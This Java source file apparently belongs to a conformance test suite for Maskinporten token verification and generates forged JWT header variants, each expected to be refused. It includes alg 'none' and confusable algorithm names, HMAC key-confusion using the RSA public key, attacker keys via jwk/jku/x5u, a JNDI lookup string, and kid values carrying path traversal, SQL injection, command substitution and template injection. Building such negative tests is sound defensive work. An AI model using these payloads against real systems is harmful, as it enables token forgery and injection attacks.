package no.klarert.conformance.maskinporten;

import static no.klarert.conformance.maskinporten.CraftedJwt.quoted;

import com.nimbusds.jose.jwk.RSAKey;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import no.klarert.conformance.maskinporten.Attack.Refused;

/** Attacks by way of the JOSE header (RFC 8725 §2.1 and §2.4 to §2.10). */
final class HeaderAttacks {
    private HeaderAttacks() {}

    /** Algorithms that nobody registered a key for, and none at all. */
    static Stream<Attack> algorithms() {
        var names = Stream.of(
                "none",
                "None",
                "NONE",
                "nOnE",
                "",
                " ",
                "rs256",
                "RS256 ",
                " RS256",
                "RS256\n",
                "RS256\u0000",
                "RS1",
                "RS256\u200B",
                "\uFF32\uFF33256",
                "R\u0405256",
                "PS256",
                "ES256",
                "ES256K",
                "EdDSA",
                "HS256",
                "HS384",
                "HS512",
                "RSA-OAEP-256",
                "dir",
                "PBES2-HS256+A128KW");
        var others = Stream.of("256", "null", "true", "[]", "{}", "[\"RS256\"]", "{\"RS256\":\"RS256\"}");
        return Stream.concat(names.map(CraftedJwt::quoted), others)
                .map(json -> Attack.signed("alg " + json, sound -> sound.header("alg", json), Refused.MALFORMED));
    }

    /** The public key, in every form a library might take for a shared secret (RFC 8725 §2.1). */
    static Stream<Attack> publicKeyAsSecret(RSAKey key) {
        var secrets = Map.of(
                "DER",
                der(key),
                "PEM",
                pem(key, "\n"),
                "PEM with CR LF",
                pem(key, "\r\n"),
                "PEM on one line",
                pem(key, ""),
                "modulus",
                key.getModulus().decode(),
                "JWK",
                CraftedJwt.bytes(key.toPublicJWK().toJSONString()),
                "nothing",
                new byte[] {0});
        return secrets.entrySet().stream()
                .flatMap(secret -> Stream.of("HS256", "HS384", "HS512")
                        .map(algorithm -> new Attack(
                                algorithm + " with the public key as secret: " + secret.getKey(),
                                sound -> mac(sound.header("alg", quoted(algorithm)), algorithm, secret.getValue()),
                                Refused.MALFORMED)));
    }

    private static byte[] der(RSAKey key) {
        try {
            return key.toRSAPublicKey().getEncoded();
        } catch (com.nimbusds.jose.JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] pem(RSAKey key, String lineEnd) {
        var lines = Base64.getMimeEncoder(64, lineEnd.getBytes(StandardCharsets.US_ASCII))
                .encodeToString(der(key));
        return CraftedJwt.bytes(
                "-----BEGIN PUBLIC KEY-----" + lineEnd + lines + lineEnd + "-----END PUBLIC KEY-----" + lineEnd);
    }

    static String mac(CraftedJwt jwt, String algorithm, byte[] secret) {
        var input = CraftedJwt.base64(jwt.headerJson()) + "." + CraftedJwt.base64(jwt.payloadJson());
        var name = "HmacSHA" + algorithm.substring(2);
        try {
            var mac = Mac.getInstance(name);
            mac.init(new SecretKeySpec(secret, name));
            return input + "." + CraftedJwt.base64(mac.doFinal(CraftedJwt.bytes(input)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Another hash than the key is registered for, under a true header and under a false one. */
    static Stream<Attack> otherHashes() {
        return Stream.of("384", "512")
                .flatMap(bits -> Stream.of(
                        new Attack(
                                "RS" + bits + " with a key for RS256",
                                sound ->
                                        sound.header("alg", quoted("RS" + bits)).sign("SHA" + bits + "withRSA"),
                                Refused.WRONG_SIGNATURE),
                        new Attack(
                                "signed with SHA-" + bits + " and called RS256",
                                sound -> sound.sign("SHA" + bits + "withRSA"),
                                Refused.WRONG_SIGNATURE)));
    }

    /** The stranger's own key, brought along in the header or offered at {@code lure}, where nobody may ask for it. */
    static Stream<Attack> ownKeys(URI lure) {
        var key = Vendor.stranger();
        var jwk = key.toPublicJWK().toJSONString();
        var address = quoted(lure + "/keys");
        var taken = Map.of("jwk", jwk, "jku", address, "x5u", address);
        var refused = taken.entrySet().stream()
                .flatMap(member -> Stream.of(
                        byStranger(
                                member.getKey(),
                                sound -> sound.header(member.getKey(), member.getValue()),
                                Refused.MALFORMED),
                        byStranger(
                                member.getKey() + " in place of kid",
                                sound -> sound.withoutHeader("kid").header(member.getKey(), member.getValue()),
                                Refused.MALFORMED),
                        byStranger(
                                member.getKey() + " null",
                                sound -> sound.header(member.getKey(), "null"),
                                Refused.MALFORMED)));
        var ignored = Stream.of("JKU", "Jwk", "jwks", "jwks_uri", "x5u#S256", "keys", "iss")
                .map(name -> byStranger(
                        name,
                        sound -> sound.header(name, name.contains("w") ? jwk : address),
                        Refused.WRONG_SIGNATURE));
        var elsewhere = Stream.of(
                byStranger(
                        "kid of the stranger", sound -> sound.header("kid", quoted("stranger")), Refused.UNKNOWN_KEY),
                byStranger("kid with an address", sound -> sound.header("kid", address), Refused.UNKNOWN_KEY),
                byStranger(
                        "kid with a look-up",
                        sound -> sound.header("kid", quoted("${jndi:ldap://" + lure.getAuthority() + "/a}")),
                        Refused.UNKNOWN_KEY),
                byStranger("iss with an address", sound -> sound.claim("iss", address), Refused.UNKNOWN_CLIENT),
                byStranger("no more than the right kid", sound -> sound, Refused.WRONG_SIGNATURE));
        return Stream.of(refused, ignored, elsewhere).flatMap(attacks -> attacks);
    }

    private static Attack byStranger(
            String name, java.util.function.UnaryOperator<CraftedJwt> change, Refused expected) {
        return Attack.signed(
                "stranger's key: " + name,
                sound -> change.apply(sound).signedBy(Vendor.privateKey(Vendor.stranger())),
                expected);
    }

    /** Certificates in a header that already names a key, and what is no chain. */
    static Stream<Attack> chains(URI lure) {
        var text = Base64.getEncoder().encodeToString(new byte[600]);
        return Stream.of(
                        "[" + quoted(text) + "]",
                        quoted(text),
                        "[]",
                        "[1]",
                        "null",
                        "{}",
                        "[null]",
                        "[[]]",
                        "[" + quoted(lure + "/cert") + "]",
                        quoted(lure + "/cert"),
                        "[" + quoted("../../cert.pem") + "]")
                .map(json ->
                        Attack.signed("kid and x5c " + json, sound -> sound.header("x5c", json), Refused.WRONG_CHAIN));
    }

    /** Key identifiers that a careless look-up would follow somewhere. */
    static Stream<Attack> keyIdentifiers(String registered) {
        var strangers = Stream.of(
                "../../../../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "/dev/null",
                "/proc/self/environ",
                "file:///dev/null",
                "%2e%2e%2f%2e%2e%2fdev%2fnull",
                "....//....//dev/null",
                "dev/null\u0000.jwk",
                "' OR '1'='1",
                "'; DROP TABLE client_key; --",
                "x' UNION SELECT 'AA' --",
                "\\'; SELECT pg_sleep(9); --",
                "$(id)",
                "`id`",
                "|id",
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "<script>alert(1)</script>",
                "a\r\nX-Injected: 1",
                "\u0000",
                registered + "\u0000",
                registered + " ",
                " " + registered,
                registered + "\n",
                registered + "\u200B",
                "\uFEFF" + registered,
                registered.toUpperCase(java.util.Locale.ROOT),
                registered.replace('a', '\u0430'),
                registered.replace('-', '\u2010'),
                "x".repeat(10_000),
                "\u00E6".repeat(5_000),
                "*",
                "%",
                "_",
                ".*",
                "null",
                "undefined",
                "0");
        var wrongTypes = Stream.of(
                "1",
                "null",
                "true",
                "[]",
                "{}",
                "[" + quoted(registered) + "]",
                "{\"kid\":" + quoted(registered) + "}",
                "\"\"",
                "1e400");
        return Stream.concat(
                strangers.map(kid -> Attack.signed(
                        "kid " + quoted(kid), sound -> sound.header("kid", quoted(kid)), Refused.UNKNOWN_KEY)),
                wrongTypes.map(
                        json -> Attack.signed("kid " + json, sound -> sound.header("kid", json), Refused.MALFORMED)));
    }

    /** Members that change what the parts mean (RFC 7515 §4.1.11, RFC 7797, RFC 7516). */
    static Stream<Attack> meanings() {
        var members = Map.of(
                "crit", List.of("[]", "[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "\"exp\"", "null", "1", "{}"),
                "b64", List.of("false", "true", "null", "\"false\""),
                "zip", List.of("\"DEF\"", "\"GZIP\"", "null"),
                "enc", List.of("\"A128GCM\"", "null"));
        return members.entrySet().stream()
                .flatMap(member -> member.getValue().stream()
                        .map(json -> Attack.signed(
                                member.getKey() + " " + json,
                                sound -> sound.header(member.getKey(), json),
                                Refused.MALFORMED)));
    }
}
